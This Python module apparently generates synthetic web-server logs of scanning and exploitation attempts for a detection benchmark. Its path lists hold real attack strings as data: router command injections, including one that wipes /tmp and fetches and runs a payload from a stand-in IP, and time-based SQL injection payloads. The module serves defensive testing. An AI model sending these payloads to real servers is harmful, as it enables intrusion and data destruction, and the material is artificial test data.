"""Programs that try weaknesses of web servers: exploits of devices, templates, content systems, and attacks in the parameters of served pages."""

from __future__ import annotations

from collections.abc import Sequence
from itertools import cycle, product

from bench.access import BROWSERS
from bench.ordinary.actors import Case, Machine
from bench.ordinary.fourth_web_answers import web_scan
from bench.ordinary.network import SITES

DEVICES = ("/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)", "/boaform/admin/formLogin?username=ec8&psd=ec8", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=wget",
           "/GponForm/diag_Form?images/", "/HNAP1/", "/shell?cd+/tmp;rm+-rf+*;wget+192.0.2.9/jaws;sh+/tmp/jaws", "/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15",
           "/picsdesc.xml", "/ctrlt/DeviceUpgrade_1", "/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos", "/goform/set_LimitClient_cfg", "/cgi-bin/;cd%20/tmp;wget%20http:/192.0.2.9/x",
           "/tmUnblock.cgi", "/board.cgi?cmd=cd+/tmp", "/cgi-bin/supervisor/CloudSetup.cgi?exefile=wget", "/language/Swedish${IFS}&&echo${IFS}1")  # fmt: skip
TEMPLATES = ("/webui/", "/+CSCOE+/logon.html", "/dana-na/auth/url_default/welcome.cgi", "/remote/login?lang=en", "/api/v1/pods", "/v1/agent/self", "/_cat/indices", "/_all_dbs", "/solr/",
             "/jolokia/version", "/invoker/readonly", "/axis2/services/listServices", "/ws/v1/cluster/info", "/login.cgi", "/nifi-api/access/config", "/api/v2/about", "/eureka/apps",
             "/zabbix.php?action=dashboard.view", "/secure/Dashboard.jspa", "/rest/api/2/serverInfo", "/Telerik.Web.UI.WebResource.axd?type=rau", "/ReportServer", "/elmah.axd", "/trace.axd",
             "/server-info", "/cacti/", "/nagios/", "/ganglia/", "/kibana/app", "/app/kibana", "/prometheus/targets", "/minio/login", "/hawtio/", "/webtools/control/main", "/CFIDE/administrator/",
             "/flink/jobmanager/log/..%252f", "/xxl-job-admin/toLogin", "/seeyon/htmlofficeservlet", "/ueditor/net/controller.ashx", "/general/index/UploadFile.php", "/weaver/bsh.servlet.BshServlet",
             "/ajax/render/widget_tabbedcontainer_tab_panel", "/autodiscover/autodiscover.json?@x.org/mapi/nspi", "/mifs/.;/services/LogService", "/SAAS/jersey/manager/api/images/510",
             "/pages/doenterpagevariables.action", "/securityRealm/user/admin/", "/users/sign_in", "/explore", "/wp-json/wp/v2/users/", "/ui/vropspluginui/rest/services/uploadova")  # fmt: skip
CHECKS = ("/cgi-bin/test-cgi", "/cgi-bin/printenv", "/icons/README", "/manual/images/", "/iisadmpwd/aexp2.htr", "/_vti_bin/shtml.exe", "/_vti_inf.html", "/scripts/tools/newdsn.exe",
          "/perl/env.pl", "/examples/servlets/index.html", "/postnuke/modules.php", "/phpBB2/viewtopic.php", "/webcalendar/login.php", "/cgi-bin/awstats.pl", "/level/16/exec/show", "/admin.cfm",
          "/msadc/msadcs.dll", "/cfdocs/expeval/", "/servlet/SnoopServlet", "/doc/packages/", "/pls/portal/", "/cgi-sys/guestbook.cgi", "/stronghold-info", "/caucho-status", "/isqlplus",
          "/axis-cgi/buffer/command.cgi", "/cgi-bin/handler.cgi", "/mailman/listinfo", "/webmin/", "/usage/", "/tsweb/", "/vgn/login", "/SiteServer/Admin/", "/jservdocs/", "/officescan/", "/gbook.cgi")  # fmt: skip
ACTUATOR = (
    "",
    "/env",
    "/heapdump",
    "/mappings",
    "/configprops",
    "/beans",
    "/loggers",
    "/threaddump",
    "/gateway/routes",
    "/jolokia/list",
    "/httptrace",
    "/refresh",
)
TRUTHS = ("1+AND+1%3D1", "1+AND+1%3D2", "1%27+AND+%271%27%3D%271", "1%27+AND+%271%27%3D%272", "1%29+AND+%281%3D1", "1+AND+SLEEP%285%29", "1%27+AND+SLEEP%285%29--+-", "1%3BWAITFOR+DELAY+%270%3A0%3A5%27--",
          "1+AND+EXTRACTVALUE%281%2CCONCAT%280x5c%2CVERSION%28%29%29%29", "1%27%22%28%29%2C..", "1+OR+PG_SLEEP%285%29", "1%27%7C%7CDBMS_PIPE.RECEIVE_MESSAGE%28CHR%2898%29%2C5%29%7C%7C%27")  # fmt: skip
GRAPHS = (
    "/graphql",
    "/api/graphql",
    "/v1/graphql",
    "/graphql/v1",
    "/gql",
    "/query",
    "/graph",
    "/graphiql",
    "/graphql/console",
    "/playground",
    "/subscriptions",
    "/api/gql",
    "/hasura/v1/graphql",
    "/graphql/schema.json",
)
ASKED_OF_GRAPHS = (
    "query=%7B__typename%7D",
    "query=query%7B__schema%7Btypes%7Bname%7D%7D%7D",
    "query=%7B__type(name:%22User%22)%7Bfields%7Bname%7D%7D%7D",
)
APPLIANCES = ("/remote/logincheck", "/+CSCOT+/translation-table?type=mst", "/vpn/index.html", "/global-protect/login.esp", "/dana/home/index.cgi", "/tmui/login.jsp", "/my.policy", "/logon/LogonPoint/index.html",
              "/sslvpn/Login/Login", "/api/sonicos/is-sslvpn-enabled", "/sslvpnLogin.html", "/webvpn.html", "/por/login_psw.csp", "/prx/000/http/localhost/login", "/svpn/index.cgi", "/cgi-bin/welcome")  # fmt: skip
PUT_AT = (
    "/x.jsp/",
    "/t.txt",
    "/uploads/t.php",
    "/fckeditor/editor/filemanager/connectors/test.html",
    "/webdav/t.txt",
    "/files/t.aspx;.jpg",
    "/images/t.phtml",
    "/tmp/t.shtml",
    "/api/upload",
    "/fileserver/a.txt",
)


def moments(case: Case, count: int, gap: float, even: bool = False, begin: float | None = None) -> list[float]:
    """Draw moments `gap` seconds apart on average, evenly or with pauses of any length, from `begin` on or so that all fit into the log."""
    gap = min(gap, 0.9 * case.span / count)
    pauses = [case.rng.uniform(0.8, 1.2) if even else case.rng.expovariate(1) for _ in range(count)]
    fitting = case.rng.uniform(0.01, 0.96 - count * gap / case.span) * case.span
    at, scale, found = fitting if begin is None else begin, count * gap / sum(pauses), []
    for pause in pauses:
        at += pause * scale
        found.append(at)
    return found


def ask(case: Case, machines: Sequence[Machine], paths: Sequence[str], gap: float, status: Sequence[int | None] = (None,), *, even: bool = False,
        method: str = "GET", agent: str | None = None, site: str = "www.example.org", referer: str = "-", begin: float | None = None) -> None:  # fmt: skip
    """Ask for `paths` from `machines` by turns, each answered by one of `status` (None: as the site does)."""
    for at, path, machine in zip(moments(case, len(paths), gap, even, begin), paths, cycle(machines), strict=False):
        machine.get(at, path, case.rng.choice(status), method, referer, agent, site)


def mixed(case: Case, *parts: Sequence[str]) -> list[str]:
    """Return all combinations of `parts` as addresses, in random order."""
    made = ["".join(part) for part in product(*parts)]
    case.rng.shuffle(made)
    return made


@web_scan("router-robot-returns", "T1595.002")
def router_robot_returns(case: Case) -> None:
    """Try a dozen exploits of routers and recorders within seconds, and again every eight hours in another order."""
    robot = case.machine("small")
    for begin in case.steady(28_800, jitter=0.2):
        for n, path in enumerate(case.rng.sample(DEVICES, 12)):
            robot.get(
                begin + 0.7 * n,
                path,
                case.rng.choice((404, 404, 400)),
                "POST" if n % 4 == 0 else "GET",
                agent="Hello, World" if n % 3 else "-",
            )


@web_scan("template-engine", "T1595.002")
def template_engine(case: Case) -> None:
    """Run an engine of templates over the site: half a hundred products, another browser for each request, served pages in between."""
    scanner = case.machine("linux")
    for at, path in zip(
        moments(case, len(TEMPLATES), 0.4, True), case.rng.sample(TEMPLATES, len(TEMPLATES)), strict=True
    ):
        scanner.get(at, path, method=case.rng.choice(("GET", "GET", "POST")), agent=case.rng.choice(BROWSERS))
        scanner.cover = True
        scanner.get(at + 0.1, "/", agent=case.rng.choice(BROWSERS))
        scanner.cover = False


@web_scan("old-checks-disguised", "T1595.002")
def old_checks_disguised(case: Case) -> None:
    """Run the checks of an old scanner with its evasions on: letters as numbers, detours, capital letters, parameters that mean nothing."""
    paths = []
    for path in CHECKS * 2:
        k = case.rng.randrange(1, len(path))
        ways = (
            f"{path[:k]}%{ord(path[k]):02x}{path[k + 1 :]}",
            f"/.{path}",
            path.swapcase(),
            f"{path}?x{k}={case.rng.getrandbits(20):x}",
            f"/a{k}/..{path}",
        )
        paths.append(case.rng.choice(ways))
    ask(case, [case.machine("linux")], paths, 1.1, (404, 404, 404, 400))


@web_scan("actuators-on-all-sites", "T1595.002")
def actuators_on_all_sites(case: Case) -> None:
    """Ask all our sites for what a framework tells of itself, below three folders, slowly and in the name of a library."""
    asker, tries = case.machine("linux"), list(product(SITES, ("/actuator", "/manage", "/api/actuator"), ACTUATOR))
    for at, (site, base, end) in zip(moments(case, 90, 45), case.rng.sample(tries, 90), strict=True):
        asker.get(at, base + end, 404, agent="okhttp/4.9.3", site=site)


@web_scan("graphs-introspected", "T1595.002")
def graphs_introspected(case: Case) -> None:
    """Look for a graph of data in fourteen places and ask it for its own description, with GET and POST."""
    scanner, begin = case.machine("linux"), case.moment()
    for method, ends in (("POST", [""]), ("GET", [f"?{text}" for text in ASKED_OF_GRAPHS])):
        ask(case, [scanner], mixed(case, GRAPHS, ends), 1, (404, 404, 400), method=method, agent="python-requests/2.31.0", site="api.example.org", begin=begin)  # fmt: skip
        begin += 30


@web_scan("appliance-portals", "T1595.002")
def appliance_portals(case: Case) -> None:
    """Look for the portals of sixteen appliances from eight addresses of one provider, each a few, for a day."""
    prefix = [Machine(case, source, "linux") for source in case.net.neighbours(case.rng, 8)]
    ask(case, prefix, case.rng.sample(APPLIANCES, 16) + case.rng.sample(APPLIANCES, 16), 1_900, agent=BROWSERS[5])


@web_scan("uploads-tried", "T1595.002")
def uploads_tried(case: Case) -> None:
    """Try to store a file in ten places with PUT and fetch it at once to see whether that worked."""
    scanner = case.machine("linux")
    for at, path in zip(moments(case, 30, 3), PUT_AT * 3, strict=True):
        name = path.replace("t.", f"{case.rng.getrandbits(24):06x}.")
        scanner.get(at, name, case.rng.choice((405, 403, 404)), "PUT", agent="python-urllib3/2.2.3")
        scanner.get(at + 0.4, name.rstrip("/"), 404, agent="python-urllib3/2.2.3")


@web_scan("short-names", "T1595.002")
def short_names(case: Case) -> None:
    """Find out the short names of files letter by letter, as one kind of server gives them away: OPTIONS with a tilde and a star."""
    letters = [f"/{a}{b}*~1*/.aspx" for a, b in product("abdeisw", "acdeiortw")]
    ask(case, [case.machine("windows")], letters, 0.5, (404, 404, 400), even=True, method="OPTIONS")


@web_scan("hobbyist-weekend", "T1595.002")
def hobbyist_weekend(case: Case) -> None:
    """Try one tool after the other from home on a free evening: checks of an old scanner, templates, then statements in the search."""
    home, begin = case.machine("windows"), (case.rng.randrange(3) * 24 + case.rng.uniform(18, 20)) * 3_600
    for paths, status, agent in ((CHECKS[:25], 404, "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)"), (TEMPLATES[:20], 404, None),
                                 ([f"/search?q={text}" for text in TRUTHS], 200, "sqlmap/1.8.11#stable (https://sqlmap.org)")):  # fmt: skip
        ask(case, [home], paths, 4, (status,), agent=agent, begin=begin)
        begin += case.rng.uniform(900, 3_600)
